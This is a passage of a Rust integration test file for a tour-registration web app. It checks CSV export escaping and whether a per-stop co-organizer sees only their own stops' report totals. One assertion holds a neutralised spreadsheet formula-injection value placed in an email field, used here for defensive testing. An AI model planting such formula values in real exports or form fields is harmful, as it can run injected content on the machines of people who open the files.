        assert!(rows.iter().any(|r| r[2] == "'=1+2@example.com" ));
        for cell in rows.iter().flatten() {
            assert!(!risky(cell), "api: {cell:?}");
        }
    }

    async fn a_per_stop_co_organizer_sees_the_totals_of_their_stops_only(app: TestApp) {
        let hui = app.organizer("hui@example.org").await;
        let carol = app.organizer("carol@example.org").await;
        let beijing = app.open_stop(&hui, 10, None, 10).await;
        let shanghai = app.open_stop_in(&hui, &beijing.tour_id, 10, None, 20).await;
        for i in 0..3 {
            app.register(&beijing.stop_id, &format!("B{i}"), &format!("b{i}@example.org")).await;
        }
        for i in 0..5 {
            app.register(&shanghai.stop_id, &format!("S{i}"), &format!("s{i}@example.org")).await;
        }
        app.post_ok(&hui, &format!("/api/v1/tours/{}/members", beijing.tour_id), &json!({"email": "carol@example.org", "role": "local", "stop_ids": [beijing.stop_id]}), 201).await;
        let (status, full) = json(app.get(&hui, &format!("/api/v1/tours/{}/report", beijing.tour_id)).await).await;
        assert_eq!(status, 200);
        assert_eq!((full["totals"]["stops"].as_i64(), full["totals"]["registrations"].as_i64()), (Some(2), Some(8)));
        let (status, mine) = json(app.get(&carol, &format!("/api/v1/tours/{}/report", beijing.tour_id)).await).await;
        assert_eq!(status, 200, "{mine}");
        assert_eq!(mine["stops"].as_array().unwrap().len(), 1);
        let t = &mine["totals"];
        assert_eq!((t["stops"].as_i64(), t["registrations"].as_i64(), t["confirmed"].as_i64(), t["venues_free"].as_i64()), (Some(1), Some(3), Some(3), Some(1)), "{t}");
        // The page, the Markdown and the CSV alike.
        let b = app.signed_in_browser(&carol).await;
        let md = b.get(&format!("/manage/tours/{}/report.md", beijing.tour_id)).await.text().await.unwrap();
        assert!(md.contains("- Registrations: 3"), "{md}");
        assert!(!md.contains(": 8"), "{md}");
        let csv = b.get(&format!("/manage/tours/{}/report.csv", beijing.tour_id)).await.text().await.unwrap();
        assert_eq!(csv.lines().count(), 2);
        let (status, page) = b.page(&format!("/manage/tours/{}/report", beijing.tour_id)).await;
        assert_eq!(status, 200);
        assert!(!page.root_element().html().contains(">8<"), "no whole-tour figure on the page");
    }
}
